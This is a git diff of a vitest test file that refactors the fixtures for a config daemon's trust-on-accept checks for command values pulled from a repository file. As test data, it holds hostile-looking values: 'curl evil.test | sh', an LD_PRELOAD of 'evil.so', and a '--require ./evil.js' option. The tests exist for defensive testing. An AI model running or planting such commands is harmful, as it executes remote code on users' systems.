@@ -3,57 +3,36 @@ import { join } from "node:path";
 import { describe, expect, test } from "vitest";
 import { hashOfValue } from "../../../main/store/values/trusted-values.ts";
 import type { JsonValue } from "../../../shared/json.ts";
-import { startTestDaemon, type TestDaemon, type TestDaemonOptions, until } from "../../helpers/daemon.ts";
+import { startTestDaemon, type TestDaemonOptions, until } from "../../helpers/daemon.ts";
 import { systemError, watchFileSystem } from "../../helpers/file-system.ts";
 import { healthOf, saveByRename } from "../../helpers/shop.ts";
-import { temporaryFolder } from "../../helpers/temporary-folder.ts";
+import { startWorkTree, type WorkTree } from "../../helpers/work-tree.ts";
 
 const service = (ready: string): JsonValue => ({ web: { ready, image: "node:24" } });
 const [good, evil, other] = [service("true"), service("curl evil.test | sh"), service("curl other.test | sh")];
 const textOf = (svc: { readonly [field: string]: JsonValue }) => `${JSON.stringify({ config: { svc } })}\n`;
 
-interface Tree extends AsyncDisposable {
-  readonly t: TestDaemon;
-  readonly home: string;
-  readonly folder: string;
-  /** Writes the work tree's file as git does, and waits until the daemon has read it. */
+interface Tree extends Omit<WorkTree, "pull"> {
   pull(svc: { readonly [field: string]: JsonValue }): Promise<void>;
-  served(field?: string): Promise<JsonValue | undefined>;
+  served(): Promise<JsonValue | undefined>;
   waiting(): Promise<readonly { readonly field: string; readonly value: JsonValue; readonly hash: string }[]>;
-  accept(value: JsonValue, field?: string): Promise<readonly { readonly code: number }[]>;
-  set(fields: { readonly [path: string]: JsonValue }): Promise<readonly { readonly code: number }[]>;
+  accept(value: JsonValue): Promise<readonly { readonly code: number }[]>;
 }
 
-/** A daemon with the in-tree repository `site`, whose file has these values when it is added. */
+/** A work tree whose file has these values when it is added. */
 async function startTree(
   svc: { readonly [field: string]: JsonValue } = {},
   options: TestDaemonOptions = {},
 ): Promise<Tree> {
-  const above = await temporaryFolder();
-  const [home, folder] = [join(above.path, "home"), join(above.path, "site")];
-  const file = join(folder, ".repoconf.json");
-  await mkdir(folder);
-  await mkdir(home);
-  await writeFile(file, textOf(svc));
-  const t = await startTestDaemon({ home, rescanInterval: 3_600_000, ...options });
-  const { errors } = await t.owner.call("repo/add", { id: "site", name: "site", path: folder, inTree: true });
-  expect(errors).toEqual([]);
+  const tree = await startWorkTree(textOf(svc), options);
   return {
-    t,
-    home,
-    folder,
-    pull: async pulled => {
-      await saveByRename(file, textOf(pulled));
-      await t.owner.call("file/read", { repo: "site" });
-    },
-    served: async (field = "services") => (await t.owner.call("config/list", { repo: "site" })).result["svc"]?.[field],
-    waiting: async () => (await t.owner.call("trust/list", { repo: "site" })).result,
-    accept: async (value, field = "svc.services") =>
-      (await t.owner.call("trust/accept", { repo: "site", field, hash: hashOfValue(value) })).errors,
-    set: async fields => (await t.owner.call("config/set", { repo: "site", ...fields })).errors,
-    [Symbol.asyncDispose]: async () => {
-      await t[Symbol.asyncDispose]();
-      await above[Symbol.asyncDispose]();
+    ...tree,
+    pull: pulled => tree.pull(textOf(pulled)),
+    served: () => tree.value("services"),
+    waiting: async () => (await tree.t.owner.call("trust/list", { repo: "site" })).result,
+    accept: async value => {
+      const accepted = { repo: "site", field: "svc.services", hash: hashOfValue(value) };
+      return (await tree.t.owner.call("trust/accept", accepted)).errors;
     },
   };
 }
@@ -63,7 +42,7 @@ describe("a command value from a work tree's file", () => {
     await using tree = await startTree({ timeout: 30 });
     await tree.set({ "svc.services": good });
     await tree.pull({ timeout: 40, services: evil });
-    expect(await tree.served("timeout")).toBe(40);
+    expect(await tree.value("timeout")).toBe(40);
     expect(await tree.served()).toEqual(good);
     const [problem, ...rest] = await healthOf(tree.t, "site");
     expect(rest).toEqual([]);
@@ -96,7 +75,7 @@ describe("a command value from a work tree's file", () => {
   test("waits from the start, with the default served; once accepted it is active like a change by hand", async () => {
     await using tree = await startTree({ services: evil, envvars: [{ name: "LD_PRELOAD", value: "evil.so" }] });
     expect(await tree.served()).toEqual({});
-    expect(await tree.served("envvars")).toEqual([]);
+    expect(await tree.value("envvars")).toEqual([]);
     await tree.t.owner.call("config/watch", { repo: "site" });
     const { result } = await tree.t.owner.call("trust/accept", {
       repo: "site",
@@ -115,7 +94,7 @@ describe("a command value from a work tree's file", () => {
     expect(await tree.accept(evil)).toEqual([]);
     await tree.t.restart();
     expect(await tree.served()).toEqual(evil);
-    expect(await tree.served("envvars")).toEqual([]);
+    expect(await tree.value("envvars")).toEqual([]);
   });
 
   test("is accepted by the hash that was shown: a hash of another value than the file's gives 1104", async () => {
@@ -157,10 +136,7 @@ describe("a command value from a work tree's file", () => {
     await writeFile(join(tree.home, "scopes/tasks.schema.json"), JSON.stringify({ type: "object", properties }));
     await tree.t.restart();
     await tree.set({ "tasks.run": "make" });
-    await saveByRename(
-      join(tree.folder, ".repoconf.json"),
-      JSON.stringify({ config: { tasks: { run: "make", stop: "make" } } }),
-    );
+    await saveByRename(tree.file, JSON.stringify({ config: { tasks: { run: "make", stop: "make" } } }));
     expect((await tree.waiting()).map(({ field }) => field)).toEqual(["tasks.stop"]);
     const twin = join(tree.folder, "twin");
     await mkdir(twin);
@@ -180,7 +156,7 @@ describe("a command value from a work tree's file", () => {
     await writeFile(join(tree.home, "scopes/tasks.schema.json"), JSON.stringify({ type: "object", properties }));
     await tree.t.restart();
     const tasks = { options: "--require ./evil.js", path: "evil" };
-    await saveByRename(join(tree.folder, ".repoconf.json"), JSON.stringify({ config: { tasks } }));
+    await saveByRename(tree.file, JSON.stringify({ config: { tasks } }));
     expect((await tree.waiting()).map(({ field }) => field)).toEqual(["tasks.options", "tasks.path"]);
     expect((await tree.t.owner.call("config/list", { repo: "site", scope: "tasks" })).result).toEqual({
       tasks: { options: "", path: "" },
@@ -215,9 +191,9 @@ describe("a command value from a work tree's file", () => {
     const { errors, result } = await tree.t.owner.call("history/restore", restore);
     expect(errors).toMatchObject([{ code: 1114, field: "svc.services", repo: "site" }]);
     expect(result[0]?.config).toMatchObject({ svc: { timeout: { value: 40 } } });
-    expect(await tree.served("timeout")).toBe(40);
+    expect(await tree.value("timeout")).toBe(40);
     expect(await tree.served()).toEqual(good);
-    expect(await readFile(join(tree.folder, ".repoconf.json"), "utf8")).not.toContain("evil");
+    expect(await readFile(tree.file, "utf8")).not.toContain("evil");
     // What is active stays trusted.
     await tree.pull({});
     await tree.pull({ services: good });
@@ -283,7 +259,7 @@ describe("trust/*", () => {
     expect(await codeOf({ field: "svc.nope" })).toBe(1011);
     expect(await codeOf({ field: "svc.timeout" })).toBe(1104);
     expect(await codeOf({ hash: "0" })).toBe(1104);
-    await writeFile(join(tree.folder, ".repoconf.json"), "{");
+    await writeFile(tree.file, "{");
     expect(await codeOf({})).toBe(1106);
     // Anyone who may write the field may set it, and so trust it.
     await tree.pull({ services: evil });
